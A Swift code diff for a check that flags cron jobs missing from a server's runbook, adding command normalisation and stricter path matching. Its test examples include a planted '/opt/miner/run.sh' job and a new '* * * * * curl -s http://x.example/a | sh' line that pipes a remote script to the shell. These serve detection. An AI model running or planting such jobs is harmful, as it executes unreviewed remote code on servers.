@@ -48,10 +48,13 @@ public struct JobListed: Check {
     private var commands: Set<String> = []
 
     init(_ runbook: Runbook) {
-      for schedule in runbook.schedules { commands.insert(schedule.command.value) }
+      for schedule in runbook.schedules { commands.insert(JobLines.normal(schedule.command.value)) }
       for claim in runbook.claims { add(claim.value.value) }
       for mention in runbook.mentions { add(mention.value.value) }
-      for command in runbook.commands { add(command.line.template) }
+      for command in runbook.commands {
+        add(command.line.template)
+        commands.insert(JobLines.normal(command.line.template))
+      }
     }
 
     private mutating func add(_ text: String) {
@@ -62,15 +65,14 @@ public struct JobListed: Check {
       character.isLetter || character.isNumber || "._-+".contains(character)
     }
 
-    /// Named is a line whose command stands there, or the file of one of whose paths does; one without a path, whose
-    /// program does.
+    /// Named is a line whose command stands there, or the file of one of whose paths does. A program alone says
+    /// little: `curl` may well stand in another command.
     func names(_ line: JobLine) -> Bool {
-      if commands.contains(line.job.command) { return true }
-      let own = line.paths.filter { path in !["/bin/", "/usr/bin/"].contains { path.hasPrefix($0) } }
-      let paths =
-        !own.isEmpty ? own : line.paths.isEmpty ? [String(line.job.command.prefix { $0 != " " })] : line.paths
-      return paths.contains { path in
-        let file = path.split(separator: "/").last ?? ""
+      if commands.contains(JobLines.normal(line.job.command)) { return true }
+      let system = ["/bin/", "/usr/bin/", "/usr/sbin/", "/sbin/"]
+      let own = line.paths.filter { path in !system.contains { path.hasPrefix($0) } }
+      return (own.isEmpty ? line.paths : own).contains { path in
+        guard let file = path.split(separator: "/").last, file.utf8.count > 2 else { return false }
         return names.contains(file) || names.contains(file + ".")
       }
     }
@@ -83,6 +85,10 @@ public struct JobListed: Check {
     CheckExample(
       .drifts, "         ↓\n## Cron (deploy user)\n- 03:00 nightly: /home/deploy/nightly.sh",
       .crontab(ExampleServer.oneJob + "*/5 * * * * /opt/miner/run.sh\n")),
+    CheckExample(
+      .drifts,
+      "         ↓\n## Cron (deploy user)\n- 03:00 nightly: /home/deploy/nightly.sh\n- Look: curl http://a/",
+      .crontab(ExampleServer.oneJob + "* * * * * curl -s http://x.example/a | sh\n")),
     CheckExample(.unknown, text, .with { $0.refused = [.text(path: ExampleServer.deploysCrontab)] }),
   ]
 }
